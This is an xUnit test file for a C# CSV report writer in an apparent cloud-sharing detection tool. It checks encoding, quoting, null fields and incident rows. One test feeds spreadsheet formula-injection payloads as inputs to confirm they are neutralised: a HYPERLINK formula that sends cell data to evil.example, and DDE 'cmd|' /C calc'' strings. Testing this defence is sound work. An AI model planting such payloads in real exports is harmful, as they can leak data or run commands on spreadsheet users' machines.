using System.Text;
using System.Text.Json;
using TransferDetect.Engine.Hosting;
using TransferDetect.Engine.IO;
using TransferDetect.Engine.Model;
using TransferDetect.Engine.Reports;
using Xunit;
using static TransferDetect.Engine.Tests.ReportSamples;

namespace TransferDetect.Engine.Tests;

public class CsvReportTests
{
    private static byte[] Write(Action<CsvReportWriter> write, bool header = true)
    {
        var ms = new MemoryStream();
        using (var w = new CsvReportWriter(ms, header))
        {
            write(w);
            w.Complete();
        }
        return ms.ToArray();
    }

    /// <summary>Reads the CSV back with the repository's own CSV reader (the one Get-ShareEvent uses).</summary>
    private static List<Dictionary<string, string>> ReadBack(byte[] csv)
    {
        var issues = new List<ReadIssue>();
        var reader = new CsvRecordReader(new MemoryStream(csv), "report.csv", 1 << 20, issues.Add);
        var rows = new List<Dictionary<string, string>>();
        foreach (var r in reader.Records(TestContext.Current.CancellationToken))
        {
            using var doc = JsonDocument.Parse(r.Json);
            rows.Add(doc.RootElement.EnumerateObject().ToDictionary(p => p.Name, p => p.Value.GetString()!));
        }
        Assert.Empty(issues);
        Assert.Equal(CsvReportWriter.Columns, reader.Columns);
        return rows;
    }

    [Fact]
    public void File_starts_with_a_utf8_bom_and_the_header_and_rows_end_in_crlf()
    {
        byte[] csv = Write(w => w.Write(Finding()));
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, csv.Take(3));
        string text = Encoding.UTF8.GetString(csv, 3, csv.Length - 3);
        string[] lines = text.Split("\r\n");
        Assert.Equal(3, lines.Length);
        Assert.Equal("", lines[2]);
        Assert.Equal(string.Join(",", CsvReportWriter.Columns), lines[0]);
        Assert.Equal(FindingRecord.Fields, CsvReportWriter.Columns.Take(FindingRecord.Fields.Length));
        Assert.Equal("0b9a1c3e-0000-4000-8000-000000000001,Aws,ModifySnapshotAttribute,2026-11-02T09:01:12Z,arn:aws:iam::111122223333:user/mallory,198.51.100.7,111122223333,EbsSnapshot,snap-0a1b2c3d4e5f60718,999988887777,Account,True,High,"
            + "\"EBS snapshot shared with AWS account 999988887777, which is outside the trust zone.\",\"/cases/acme/AWSLogs/trail.json.gz:12 (record 3, offset 4567)\",aws-cli/2.15.0,us-east-1,,,,", lines[1]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData(" =1+1")]
    [InlineData("  \n@SUM(A1)")]
    public void A_value_a_spreadsheet_would_evaluate_gets_a_leading_quote_and_reads_back_as_text(string hostile)
    {
        byte[] csv = Write(w => w.Write(Finding(actor: hostile, userAgent: hostile, resourceId: hostile)));
        var row = Assert.Single(ReadBack(csv));
        Assert.Equal("'" + hostile, row["Actor"]);
        Assert.Equal("'" + hostile, row["UserAgent"]);
        Assert.Equal("'" + hostile, row["ResourceId"]);
        Assert.True(CsvReportWriter.IsFormulaLike(hostile));
        Assert.StartsWith("'", CsvReportWriter.Field(hostile).TrimStart('"'));
    }

    [Theory]
    [InlineData("arn:aws:iam::111122223333:user/alice")]
    [InlineData("a-b=c")]
    [InlineData("x @ y")]
    [InlineData("'already quoted")]
    public void Ordinary_values_are_left_alone(string value)
    {
        Assert.False(CsvReportWriter.IsFormulaLike(value));
        Assert.Equal(value, CsvReportWriter.Field(value));
    }

    [Fact]
    public void Quotes_commas_and_line_breaks_inside_values_are_quoted_and_read_back_unchanged()
    {
        string reason = "shared with \"partner\", then\r\nun-shared\nlater, é 中文 😀";
        string agent = "Mozilla/5.0 (X11; Linux) \"quoted\", comma";
        byte[] csv = Write(w =>
        {
            w.Write(Finding(userAgent: agent, reason: reason));
            w.Write(Finding(grantee: "all", granteeType: GranteeType.Public, severity: Severity.Critical));
        });
        string text = Encoding.UTF8.GetString(csv);
        Assert.Contains("\"shared with \"\"partner\"\", then\r\nun-shared\nlater, é 中文 😀\"", text);
        var rows = ReadBack(csv);
        Assert.Equal(2, rows.Count);
        Assert.Equal(reason, rows[0]["Reason"]);
        Assert.Equal(agent, rows[0]["UserAgent"]);
        Assert.Equal("all", rows[1]["Grantee"]);
        Assert.Equal("Critical", rows[1]["Severity"]);
    }

    [Fact]
    public void Null_values_are_empty_fields()
    {
        byte[] csv = Write(w => w.Write(Finding(actor: null, resourceId: null, userAgent: null, eventId: null, file: null)));
        var row = Assert.Single(ReadBack(csv));
        foreach (string column in new[] { "EventId", "Actor", "ResourceId", "UserAgent", "Source", "Permission", "Details", "ErrorCode", "IncidentId" })
        {
            Assert.Equal("", row[column]);
        }
        Assert.Equal("ModifySnapshotAttribute", row["Operation"]);
    }

    [Fact]
    public void An_incident_is_written_as_its_findings_with_its_id()
    {
        byte[] csv = Write(w =>
        {
            w.Write(Finding(grantee: "all", granteeType: GranteeType.Public));
            w.Write(Incident("inc-42", Finding(), Finding(resourceId: "snap-2", succeeded: false)));
            Assert.Equal(3, w.Written);
            Assert.Equal(1, w.IncidentsWritten);
        });
        var rows = ReadBack(csv);
        Assert.Equal(new[] { "", "inc-42", "inc-42" }, rows.Select(r => r["IncidentId"]));
        Assert.Equal(new[] { "True", "True", "False" }, rows.Select(r => r["Succeeded"]));
        Assert.Equal("AccessDenied", rows[2]["ErrorCode"]);
    }

    [Fact]
    public void Without_the_header_only_rows_are_written_for_appending()
    {
        byte[] first = Write(w => w.Write(Finding()));
        byte[] more = Write(w => w.Write(Finding(grantee: "444455556666")), header: false);
        Assert.NotEqual(0xEF, more[0]);
        Assert.StartsWith("0b9a1c3e-", Encoding.UTF8.GetString(more));
        var rows = ReadBack(first.Concat(more).ToArray());
        Assert.Equal(new[] { "999988887777", "444455556666" }, rows.Select(r => r["Grantee"]));
    }
}
